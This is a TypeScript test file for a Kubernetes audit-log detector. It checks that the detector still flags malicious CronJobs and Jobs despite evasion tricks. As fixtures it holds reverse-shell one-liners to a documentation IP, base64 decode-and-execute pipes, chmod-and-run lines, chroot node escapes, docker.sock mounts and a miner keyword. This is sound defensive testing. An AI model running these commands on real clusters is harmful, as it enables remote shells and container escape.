import { describe, expect, it } from 'vitest';
import type { FindingRow } from '../../src/findings/finding-row.js';
import { loadRuleFiles } from '../../src/rules/load-rules.js';
import { buildRuleSet, type RuleSet } from '../../src/rules/rule-set.js';
import { ActivityLogDocument } from '../../src/sources/activity-log/activity-document.js';
import { aksRecord, auditEvent, cronJobBody, jobBody, podSpec, type WriteOptions } from '../helpers/audit.js';
import { activityRecord, bundledRuleSet, FIXED_CLOCK, processBatch } from '../helpers/detector.js';
import { compileYaml, ruleYaml } from '../helpers/rules.js';
import { REPO_ROOT } from '../helpers/shared.js';

/** Regression tests for the evasions of issue 12, each built the way the API server logs it. */

const RULE = 'f4fc1f0e-ebc3-4f51-808e-2b12ba1883d8';
const LAST_APPLIED = 'kubectl.kubernetes.io/last-applied-configuration';
const BENIGN = { image: 'contosoacr.azurecr.io/ops/report:2.1.0', args: ['--since', '24h'] };

function run(ruleSet: RuleSet, events: Record<string, unknown>[]) {
  return processBatch([{ body: { records: events.map((e) => aksRecord(e)) }, origin: { event: 0 } }], {
    ruleSet,
    clock: FIXED_CLOCK,
    detectorVersion: 'test',
  });
}

async function detect(options: WriteOptions): Promise<FindingRow | undefined> {
  const { findings, report } = run(await bundledRuleSet(), [auditEvent(options)]);
  expect(report.problems).toEqual([]);
  return findings.find((f) => f.RuleId === RULE);
}

const indicators = (finding: FindingRow | undefined): string[] | undefined =>
  finding === undefined
    ? undefined
    : Object.keys(finding.Indicators['matched'] as object)
        .filter((k) => k.startsWith('indicator_'))
        .sort();

const workloadOf = (finding: FindingRow | undefined) =>
  finding?.Indicators['workload'] as { truncated: string[]; pathsAsWritten: unknown[] } | undefined;

/** Why the severity of a privileged CronJob running `command` was raised. */
async function privilegedSeverityReasons(command: string[]): Promise<unknown> {
  const spec = podSpec({ image: 'contoso/app:1', securityContext: { privileged: true }, command });
  return (await detect({ requestObject: cronJobBody(spec) }))?.Indicators['severityRaisedBy'];
}

const withAnnotation = (body: Record<string, unknown>, value: string): Record<string, unknown> => ({
  ...body,
  metadata: { ...(body['metadata'] as object), annotations: { [LAST_APPLIED]: value } },
});

describe('1. keys from the record never reach Object.prototype', () => {
  const evil = jobBody(podSpec({ image: 'alpine:3.20', securityContext: { privileged: true } }));

  it.each(['constructor', '__proto__', 'toString', 'hasOwnProperty'])(
    'a last-applied manifest of kind %s still yields the finding',
    async (kind) => {
      const finding = await detect({
        resource: 'jobs',
        requestObject: withAnnotation(evil, JSON.stringify({ kind, spec: { template: {} } })),
      });
      expect(indicators(finding)).toEqual(['indicator_image', 'indicator_privileged']);
      expect(finding?.WorkloadKind).toBe('Job');
    },
  );

  it.each(['constructor', '__proto__', 'toString'])(
    'a request body of kind %s is read where the resource keeps its pod spec',
    async (kind) => {
      const finding = await detect({ resource: 'jobs', requestObject: { ...evil, kind } });
      expect(indicators(finding)).toEqual(['indicator_image', 'indicator_privileged']);
      expect(finding?.WorkloadKind).toBe('Job');
    },
  );

  it('a body naming another pod-bearing kind hides nothing', async () => {
    const finding = await detect({
      resource: 'cronjobs',
      requestObject: { ...cronJobBody(podSpec({ image: 'kali' })), kind: 'Pod' },
    });
    expect(indicators(finding)).toEqual(['indicator_image']);
  });

  it('a resource named constructor is no pod-bearing resource, and no problem', async () => {
    const { findings, report } = run(await bundledRuleSet(), [
      auditEvent({ resource: 'constructor', requestObject: evil }),
    ]);
    expect(findings).toEqual([]);
    expect(report.problems).toEqual([]);
  });

  it('Activity Log field aliases answer only their own names', () => {
    const record = activityRecord('MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/BATCH/CRONJOBS/WRITE');
    for (const field of ['toString', 'constructor', '__proto__', 'valueOf', 'hasOwnProperty'])
      expect(
        compileYaml(`selection:\n  ${field}: '*'\ncondition: selection`).test(
          new ActivityLogDocument(record),
        ),
      ).toBe(false);
    expect(
      compileYaml(`selection:\n  OperationNameValue|endswith: '/CRONJOBS/WRITE'\ncondition: selection`).test(
        new ActivityLogDocument(record),
      ),
    ).toBe(true);
  });
});

describe('2. no silent caps', () => {
  const many = (n: number) => Array.from({ length: n }, (_, i) => ({ name: `c${i}`, ...BENIGN }));

  it('reads a privileged alpine container in position 257', async () => {
    const spec = {
      containers: [...many(256), { name: 'evil', image: 'alpine', securityContext: { privileged: true } }],
    };
    expect(indicators(await detect({ requestObject: cronJobBody(spec) }))).toEqual([
      'indicator_image',
      'indicator_privileged',
    ]);
  });

  it('reads a docker.sock hostPath as volume 257, mounted by container 300', async () => {
    const volumes = [
      ...Array.from({ length: 256 }, (_, i) => ({ name: `v${i}`, emptyDir: {} })),
      { name: 'sock', hostPath: { path: '/var/run/docker.sock' } },
    ];
    const containers = [
      ...many(299),
      { name: 'c299', ...BENIGN, volumeMounts: [{ name: 'sock', mountPath: '/var/run/docker.sock' }] },
    ];
    const finding = await detect({ requestObject: cronJobBody({ containers, volumes }) });
    expect(indicators(finding)).toEqual(['indicator_host_path', 'indicator_sensitive_mount']);
  });

  it('an embedded manifest over the bound is reported as truncated and raises the severity', async () => {
    const body = jobBody(podSpec({ image: 'alpine', securityContext: { privileged: true } }));
    const oversized = JSON.stringify({ kind: 'Job', padding: 'x'.repeat(3 * 1024 * 1024) });
    const finding = await detect({ resource: 'jobs', requestObject: withAnnotation(body, oversized) });
    expect(workloadOf(finding)?.truncated).toEqual([
      `${LAST_APPLIED}: ${oversized.length} characters, none read (bound ${3 * 1024 * 1024})`,
    ]);
    expect(finding?.Severity).toBe('critical');
    expect(finding?.Indicators['severityRaisedBy']).toEqual([
      expect.stringMatching(/^body not read in full: /),
    ]);
  });

  it('a JSON Patch operation deeper than the bound is reported as truncated, the others replayed', async () => {
    const base = '/spec/jobTemplate/spec/template/spec/containers/0';
    const finding = await detect({
      verb: 'patch',
      code: 200,
      requestObject: [
        { op: 'add', path: `${base}/image`, value: 'alpine:3.20' },
        { op: 'add', path: `/metadata/annotations/${'a/'.repeat(70)}x`, value: 'padding' },
      ],
    });
    expect(indicators(finding)).toEqual(['indicator_image']);
    expect(workloadOf(finding)?.truncated).toEqual([
      'JSON Patch: 1 of 2 operations deeper than 64 segments, not replayed',
    ]);
    expect(finding?.Severity).toBe('critical');
  });

  it('the images exception sees every image, and never applies to a body not read in full', async () => {
    const files = await loadRuleFiles([`${REPO_ROOT}/rules`]);
    const exceptions = `exceptions:
  - id: trusted-registry
    reason: platform images
    images: ['contosoacr.azurecr.io/*']
`;
    const { ruleSet } = buildRuleSet([
      ...files.filter((f) => !f.path.endsWith('exceptions.yml')),
      { path: 'test/exceptions.yml', text: exceptions },
    ]);
    const privileged = { securityContext: { privileged: true } };
    const trusted = (n: number) => many(n).map((c) => ({ ...c, ...privileged }));
    const write = (containers: unknown[], annotation?: string) => {
      const body = cronJobBody({ containers });
      return auditEvent({
        requestObject: annotation === undefined ? body : withAnnotation(body, annotation),
      });
    };
    expect(run(ruleSet, [write(trusted(300))]).report.suppressed).toBe(1);
    const untrustedLast = run(ruleSet, [
      write([...trusted(300), { name: 'x', image: 'alpine', ...privileged }]),
    ]);
    expect(untrustedLast.findings.map((f) => f.RuleId)).toEqual([RULE]);
    const unread = run(ruleSet, [
      write(trusted(3), `{"kind":"CronJob","x":"${'y'.repeat(3 * 1024 * 1024)}"}`),
    ]);
    expect(unread.findings.map((f) => f.RuleId)).toEqual([RULE]);
  });
});

describe('3. look-alike system principals', () => {
  const evil = cronJobBody(podSpec({ image: 'alpine' }));

  it.each(['system:serviceaccount:kube-system-tools:deployer', 'system:serviceaccount:kube-systemd:x'])(
    '%s is not excluded',
    async (username) => {
      expect(indicators(await detect({ username, requestObject: evil }))).toEqual(['indicator_image']);
    },
  );

  it('the kube-system service accounts still are', async () => {
    expect(
      await detect({ username: 'system:serviceaccount:kube-system:cronjob-controller', requestObject: evil }),
    ).toBeUndefined();
  });
});

describe('4. whitespace variants', () => {
  it.each([
    ['chmod\t+x /tmp/m && /tmp/m'],
    ['bash  -i >& /dev/udp/203.0.113.9/4444 0>&1'],
    ['echo ZWNobyBoaQ== | base64   -d | sh'],
    ['echo ZWNobyBoaQ== | base64\n-d | sh'],
  ])('%j fires the command indicator', async (line) => {
    const spec = podSpec({ image: 'contoso/app:1', command: ['/bin/sh', '-c'], args: [line] });
    expect(indicators(await detect({ requestObject: cronJobBody(spec) }))).toEqual(['indicator_command']);
  });

  it('a tab-separated shell still raises the severity of a node-escape primitive', async () => {
    expect(await privilegedSeverityReasons(['sh\t-c', 'id'])).toEqual([
      expect.stringMatching(/^node-escape primitive/),
    ]);
  });
});

describe('5. paths as written', () => {
  const mounted = (hostPath: string, mountPath: string) =>
    podSpec(
      { image: 'contoso/app:1', volumeMounts: [{ name: 'h', mountPath }] },
      { volumes: [{ name: 'h', hostPath: { path: hostPath } }] },
    );

  it.each([
    '/var//run/docker.sock',
    '/var/run/./docker.sock',
    '/var/lib/../run/docker.sock',
    '/var/run/docker.sock/',
  ])('a mount at %s is the docker socket, and the finding keeps the spelling', async (path) => {
    const finding = await detect({ requestObject: cronJobBody(mounted('/mnt/data', path)) });
    expect(indicators(finding)).toEqual(['indicator_host_path', 'indicator_sensitive_mount']);
    expect(
      (finding?.Indicators['matched'] as Record<string, unknown>)['indicator_sensitive_mount'],
    ).toMatchObject({
      mount_path: '/var/run/docker.sock',
    });
    expect(workloadOf(finding)?.pathsAsWritten).toEqual([
      { written: path, normalised: '/var/run/docker.sock' },
    ]);
  });

  it.each(['//etc', '/etc/', '/etc/.', '///etc//'])(
    'a hostPath of %s counts as /etc in the severity',
    async (path) => {
      const spec = mounted(path, '/host');
      (spec['containers'] as Record<string, unknown>[])[0] = {
        name: 'c',
        image: 'contoso/app:1',
        securityContext: { privileged: true },
        command: ['sh', '-c', 'chroot /host'],
        volumeMounts: [{ name: 'h', mountPath: '/host' }],
      };
      const finding = await detect({ requestObject: cronJobBody(spec) });
      expect(finding?.Indicators['severityRaisedBy']).toEqual([
        'node-escape primitive (privileged, hostPID or a sensitive hostPath) with a shell-like command',
        'privileged container with a hostPath volume',
      ]);
      expect(workloadOf(finding)?.pathsAsWritten).toContainEqual({ written: path, normalised: '/etc' });
    },
  );
});

describe('outcomes by HTTP class', () => {
  it.each([
    [101, 'Informational (101)'],
    [201, 'Success (201)'],
    [307, 'Redirected (307)'],
    [403, 'Denied (403)'],
    [422, 'Failed (422)'],
    [503, 'Server error (503)'],
  ])('%i is %s', async (code, expected) => {
    const finding = await detect({ code, requestObject: cronJobBody(podSpec({ image: 'alpine' })) });
    expect(finding?.ResultType).toBe(expected);
  });
});

describe('one cluster, one ClusterResourceId', () => {
  it('the Activity Log and kube-audit spellings of a cluster group together', async () => {
    const ruleSet = await bundledRuleSet();
    const audit = aksRecord(auditEvent({ requestObject: cronJobBody(podSpec({ image: 'alpine' })) }));
    const activity = activityRecord('MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/BATCH/CRONJOBS/WRITE');
    const { findings } = processBatch([{ body: { records: [audit, activity] }, origin: {} }], {
      ruleSet,
      clock: FIXED_CLOCK,
      detectorVersion: 'test',
    });
    expect(findings.map((f) => f.ClusterName)).toEqual(['AKS-PAY-01', 'aks-pay-01']);
    expect(new Set(findings.map((f) => f.ClusterResourceId))).toEqual(
      new Set([
        '/subscriptions/3f2a9c10-5b7e-4d21-9a44-0c1d2e3f4a5b/resourcegroups/rg-pay/providers/microsoft.containerservice/managedclusters/aks-pay-01',
      ]),
    );
  });
});

/** The evasions the first pass found and left open; each departure is in the rule's description. */
describe('6. a body dropped for size', () => {
  const evil = () => cronJobBody(podSpec({ image: 'alpine', securityContext: { privileged: true } }));
  /** The API server's truncating audit backend: both objects omitted, the event annotated. */
  const truncatedEvent = (options: WriteOptions) => {
    const event = auditEvent(options);
    return {
      ...event,
      annotations: { ...(event['annotations'] as object), 'audit.k8s.io/truncated': 'true' },
    };
  };
  const detectEvent = async (event: Record<string, unknown>) => {
    const { findings, report } = run(await bundledRuleSet(), [event]);
    expect(report.problems).toEqual([]);
    return findings.find((f) => f.RuleId === RULE);
  };

  it.each(['create', 'update', 'patch'])(
    'a %s whose body AKS logged as skipped-too-big-size-object fires its own indicator',
    async (verb) => {
      const finding = await detect({ verb, requestObject: 'skipped-too-big-size-object' });
      expect(indicators(finding)).toEqual(['indicator_body_dropped_for_size']);
      expect(finding?.Indicators['requestBody']).toBe('too-big');
    },
  );

  it('a Job whose body the truncating audit backend dropped fires it too', async () => {
    const finding = await detectEvent(truncatedEvent({ resource: 'jobs' }));
    expect(indicators(finding)).toEqual(['indicator_body_dropped_for_size']);
  });

  it('a Metadata-level write, a system principal and a pod write do not', async () => {
    expect(await detect({ level: 'Metadata' })).toBeUndefined();
    expect(await detect({ requestObject: undefined })).toBeUndefined();
    expect(
      await detect({
        username: 'system:serviceaccount:kube-system:cronjob-controller',
        requestObject: 'skipped-too-big-size-object',
      }),
    ).toBeUndefined();
    expect(await detect({ resource: 'pods', requestObject: 'skipped-too-big-size-object' })).toBeUndefined();
    // The annotation is read only when the body is missing: a logged body is read as usual.
    expect(indicators(await detectEvent(truncatedEvent({ requestObject: evil() })))).toEqual([
      'indicator_image',
      'indicator_privileged',
    ]);
  });
});

describe('7. command variants beyond the seed letter', () => {
  const withCommand = (line: string) =>
    cronJobBody(podSpec({ image: 'contoso/app:1', command: ['/bin/sh', '-c'], args: [line] }));

  it.each([
    'chmod a+x /tmp/m && /tmp/m',
    'chmod u+rwx /tmp/m',
    'chmod go-w,u+x /tmp/m',
    'chmod 755 /tmp/m',
    'chmod -R 0750 /opt/tool',
    'chmod\t\t4711 /tmp/m',
    'echo ZWNobyBoaQ== | base64 --decode | sh',
    'echo ZWNobyBoaQ== | base64  --dec | sh',
    'exec /bin/sh  -i',
    'zsh -i >& /dev/tcp/203.0.113.9/4444',
    'exec 3<>/dev/udp/203.0.113.9/53',
  ])('%j fires the command indicator', async (line) => {
    expect(indicators(await detect({ requestObject: withCommand(line) }))).toEqual(['indicator_command']);
  });

  it.each([
    'ssh -i /keys/id_ed25519 backup@203.0.113.9 true',
    'chmod 644 /etc/app.conf',
    'chmod u-x,go-w /tmp/m',
    'chmod 1644 /tmp/m',
    'base64 -w0 /tmp/report > /tmp/report.b64',
  ])('%j does not', async (line) => {
    expect(await detect({ requestObject: withCommand(line) })).toBeUndefined();
  });

  it.each([
    ['/bin/sh', '-i'],
    ['/bin/busybox', 'chmod', 'a+x', '/tmp/m'],
    ['/bin/busybox', 'base64', '--decode', '/tmp/p'],
  ])('the variants count as shell-like for the severity too: %s %s', async (...command) => {
    expect(await privilegedSeverityReasons(command)).toEqual([
      expect.stringMatching(/^node-escape primitive/),
    ]);
  });
});

describe('8. every container runtime socket', () => {
  const sockets = [
    '/run/docker.sock',
    '/var/run/containerd/containerd.sock',
    '/run/containerd/containerd.sock',
    '/var/run/crio/crio.sock',
    '/run/crio/crio.sock',
  ];

  it.each(sockets)('a hostPath of %s mounted at the same path is a sensitive mount', async (path) => {
    const spec = podSpec(
      { image: 'contoso/app:1', volumeMounts: [{ name: 'sock', mountPath: path }] },
      { volumes: [{ name: 'sock', hostPath: { path, type: 'Socket' } }] },
    );
    const finding = await detect({ requestObject: cronJobBody(spec) });
    expect(indicators(finding)).toEqual(['indicator_host_path', 'indicator_sensitive_mount']);
    expect(
      (finding?.Indicators['matched'] as Record<string, unknown>)['indicator_sensitive_mount'],
    ).toMatchObject({ mount_path: path });
  });

  it.each(sockets)('a hostPath of %s mounted elsewhere is one too', async (path) => {
    const spec = podSpec(
      { image: 'contoso/app:1', volumeMounts: [{ name: 'sock', mountPath: '/host.sock' }] },
      { volumes: [{ name: 'sock', hostPath: { path } }] },
    );
    expect(indicators(await detect({ requestObject: cronJobBody(spec) }))).toEqual([
      'indicator_host_path',
      'indicator_sensitive_mount',
    ]);
  });
});

describe('9. nesting bounds are reported, never a silent non-match', () => {
  const ruleFile = (detection: string) =>
    buildRuleSet([
      {
        path: 'rules/deep.yml',
        text: ruleYaml(detection, 'product: kubernetes\n    service: audit'),
      },
    ]).ruleSet;
  const nest = (depth: number, leaf: unknown): unknown => {
    let value = leaf;
    for (let i = 0; i < depth; i++) value = [value];
    return value;
  };

  it('a field value nested below the field-path bound is a problem of the record', () => {
    const ruleSet = ruleFile("sel:\n  requestObject.metadata.labels.team: 'red'\ncondition: sel");
    const shallow = auditEvent({ requestObject: { metadata: { labels: { team: nest(10, 'red') } } } });
    const deep = auditEvent({ requestObject: { metadata: { labels: { team: nest(300, 'red') } } } });
    expect(run(ruleSet, [shallow]).findings).toHaveLength(1);
    const { findings, report } = run(ruleSet, [deep]);
    expect(findings).toEqual([]);
    expect(report.problems.map((p) => p.message)).toEqual([
      'field requestObject.metadata.labels.team: nested deeper than 256 levels, not read below',
    ]);
  });

  it('a keyword nested below the keyword bound is a problem of the record', () => {
    const ruleSet = ruleFile("keywords:\n  - 'xmrig'\ncondition: keywords");
    const shallow = auditEvent({ requestObject: { spec: nest(10, 'xmrig --donate 0') } });
    const deep = auditEvent({ requestObject: { spec: nest(80, 'xmrig --donate 0') } });
    expect(run(ruleSet, [shallow]).findings).toHaveLength(1);
    const { findings, report } = run(ruleSet, [deep]);
    expect(findings).toEqual([]);
    expect(report.problems.map((p) => p.message)).toEqual([
      'keywords: the record nests deeper than 64 levels, not searched below',
    ]);
  });

  it('ordinary records report nothing', async () => {
    const { report } = run(await bundledRuleSet(), [
      auditEvent({ requestObject: cronJobBody(podSpec(BENIGN)) }),
    ]);
    expect(report.problems).toEqual([]);
  });
});
